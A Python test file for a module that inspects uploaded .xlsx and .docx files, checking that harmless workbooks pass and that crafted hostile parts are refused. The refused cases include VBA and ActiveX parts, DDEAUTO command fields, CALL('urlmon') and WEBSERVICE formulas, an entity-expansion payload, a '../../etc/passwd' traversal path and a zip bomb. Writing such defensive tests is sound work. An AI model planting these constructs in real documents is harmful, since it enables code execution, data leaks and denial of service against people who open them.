"""What is inside an .xlsx or .docx: harmless files pass, whatever acts or calls is refused."""

import io
import zipfile

import pytest
from openpyxl import Workbook
from openpyxl.chart import LineChart, Reference

from foundation.sheets import inspection
from foundation.sheets.inspection import UnsafeFile, inspect

pytestmark = pytest.mark.pure
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def a_workbook():
    book = Workbook()
    sheet = book.active
    for number in range(1, 9):
        sheet.append([f"項目{number}", number, f"=B{number}*2"])
    sheet["A9"] = "DDEAUTO と LINK と CALL(電話) についての文"
    sheet["A10"].hyperlink = "https://www.town.test/"
    chart = LineChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=8))
    sheet.add_chart(chart, "E2")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def part(name, text):
    return {name: text.encode() if isinstance(text, str) else text}


def relations(kind, target, mode="External"):
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId9" '
        f'Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def types(kind="application/xml"):
    return (
        f'<Types xmlns="{PACKAGE}/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}"/></Types>'
    )


def sheet(formula):
    return (
        f'<worksheet xmlns="{MAIN}"><sheetData><row><c><f>{formula}</f></c></row></sheetData>'
        "</worksheet>"
    )


def document(inside):
    return f'<w:document xmlns:w="{WORD}"><w:body><w:p>{inside}</w:p></w:body></w:document>'


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'


def with_parts(content, added, method=zipfile.ZIP_DEFLATED):
    """The archive with parts added or put in the place of others."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            if name not in added:
                new.writestr(name, old.read(name))
        for name, text in added.items():
            new.writestr(name, text)
    return out.getvalue()


def a_document(inside="<w:r><w:t>DDEAUTO と LINK の説明</w:t></w:r>", **_):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types())
        archive.writestr("word/document.xml", document(inside))
    return out.getvalue()


BOOK = a_workbook()
HARMLESS = {
    "workbook": (BOOK, ".xlsx"),
    "document": (a_document(), ".docx"),
    "printer settings": (
        with_parts(BOOK, part("xl/printerSettings/printerSettings1.bin", b"\x00\x01")),
        ".xlsx",
    ),
    "chart in a document": (
        with_parts(a_document(), part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", BOOK)),
        ".docx",
    ),
    "hyperlink field": (a_document(field('HYPERLINK "https://x.test/LINK"')), ".docx"),
    "date field": (a_document(field("DATE \\@ yyyy")), ".docx"),
}
NAME = "xl/worksheets/sheet9.xml"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
REFUSED = {
    "vba": (part("xl/vbaProject.bin", b"x"), inspection.MACRO),
    "vba under capitals": (part("XL/VBAPROJECT.BIN", b"x"), inspection.MACRO),
    "macro sheet": (part("xl/macrosheets/sheet1.xml", "<x/>"), inspection.MACRO),
    "dialog sheet": (part("xl/dialogsheets/sheet1.xml", "<x/>"), inspection.MACRO),
    "activex": (part("xl/activeX/activeX1.xml", "<x/>"), inspection.MACRO),
    "program": (part("xl/media/tool.exe", b"MZ"), inspection.MACRO),
    "macro type": (
        part("[Content_Types].xml", types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        inspection.MACRO,
    ),
    "object": (part("xl/embeddings/oleObject1.bin", b"x"), inspection.EMBEDDED),
    "workbook in workbook in document": (
        part("xl/embeddings/a.xlsx", with_parts(BOOK, part("xl/embeddings/b.xlsx", BOOK))),
        inspection.EMBEDDED,
    ),
    "macro in embedded": (
        part("xl/embeddings/a.xlsx", with_parts(BOOK, part("xl/vbaProject.bin", b"x"))),
        inspection.MACRO,
    ),
    "external link": (part("xl/externalLinks/externalLink1.xml", "<x/>"), inspection.OUTSIDE),
    "connections": (part("xl/connections.xml", "<x/>"), inspection.OUTSIDE),
    "query": (part("xl/queryTables/queryTable1.xml", "<x/>"), inspection.OUTSIDE),
    "picture from elsewhere": (
        part("xl/drawings/_rels/drawing9.xml.rels", relations("image", "http://x.test/a.png")),
        inspection.OUTSIDE,
    ),
    "template from elsewhere": (
        part(
            "word/_rels/settings.xml.rels",
            relations("attachedTemplate", "http://x.test/a.dotm", "eXternal"),
        ),
        inspection.OUTSIDE,
    ),
    "web service": (
        part(NAME, sheet('_xlfn.WEBSERVICE("http://x.test/?"&amp;A1)')),
        inspection.OUTSIDE,
    ),
    "program call": (part(NAME, sheet('CALL ("urlmon","x")')), inspection.OUTSIDE),
    "real time data": (part(NAME, sheet('rtd("a",,"b")')), inspection.OUTSIDE),
    "dde field": (part("word/x.xml", document(field("DDEAUTO c:\\\\x"))), inspection.OUTSIDE),
    "dde field in pieces": (
        part("word/x.xml", document(field(" DDE", "AUTO ", "cmd"))),
        inspection.OUTSIDE,
    ),
    "simple field": (
        part("word/x.xml", document('<w:fldSimple w:instr=" INCLUDETEXT x "/>')),
        inspection.OUTSIDE,
    ),
    "entities": (part(NAME, LAUGHS + "<x>&b;</x>"), inspection.ENTITIES),
    "document type": (part(NAME, '<!DOCTYPE x SYSTEM "http://x.test/"><x/>'), inspection.ENTITIES),
    "entities in utf-16": (part(NAME, (LAUGHS + "<x/>").encode("utf-16")), inspection.ENTITIES),
    "entities in relations": (part("xl/_rels/x.rels", LAUGHS + "<x/>"), inspection.ENTITIES),
    "no xml": (part(NAME, "<x>"), inspection.BROKEN),
    "an encoding that nobody knows": (
        part(NAME, '<?xml version="1.0" encoding="x"?><x/>'),
        inspection.BROKEN,
    ),
    "way out": (part("../../etc/passwd", "x"), inspection.BROKEN),
    "bomb": (part("xl/media/a.txt", b"0" * 5_000_000), inspection.SWOLLEN),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_files_pass(name):
    inspect(*HARMLESS[name])


@pytest.mark.parametrize("name", REFUSED)
def test_what_acts_or_calls_is_refused(name):
    added, sentence = REFUSED[name]
    with pytest.raises(UnsafeFile, match=sentence[:12].replace("（", ".")):
        inspect(with_parts(BOOK, added), ".xlsx")


@pytest.mark.parametrize(
    ("content", "ending", "sentence"),
    [
        (b"PK\x03\x04", ".xlsx", inspection.BROKEN),
        (BOOK[:-30], ".xlsx", inspection.BROKEN),
        (BOOK[:200] + b"\x00\xff" * 40 + BOOK[280:], ".xlsx", inspection.BROKEN),
        (BOOK, ".docx", inspection.OTHER_KIND.format(ending=".docx")),
        (a_document(), ".xlsx", inspection.OTHER_KIND.format(ending=".xlsx")),
    ],
)
def test_damaged_and_other_files_are_refused(content, ending, sentence):
    with pytest.raises(UnsafeFile) as refused:
        inspect(content, ending)
    assert str(refused.value) == sentence


def test_many_parts_and_large_ones_are_refused(monkeypatch):
    monkeypatch.setattr(inspection, "PARTS_LIMIT", 3)
    with pytest.raises(UnsafeFile, match="大きくなりすぎる"):
        inspect(BOOK, ".xlsx")
    monkeypatch.undo()
    monkeypatch.setattr(inspection, "UNPACKED_LIMIT", 1000)
    with pytest.raises(UnsafeFile, match="大きくなりすぎる"):
        inspect(BOOK, ".xlsx")


def test_a_locked_archive_is_refused():
    content = bytearray(BOOK)
    content[content.find(b"PK\x01\x02") + 8] |= 1  # the flag of the first part
    with pytest.raises(UnsafeFile, match="パスワード付き"):
        inspect(bytes(content), ".xlsx")
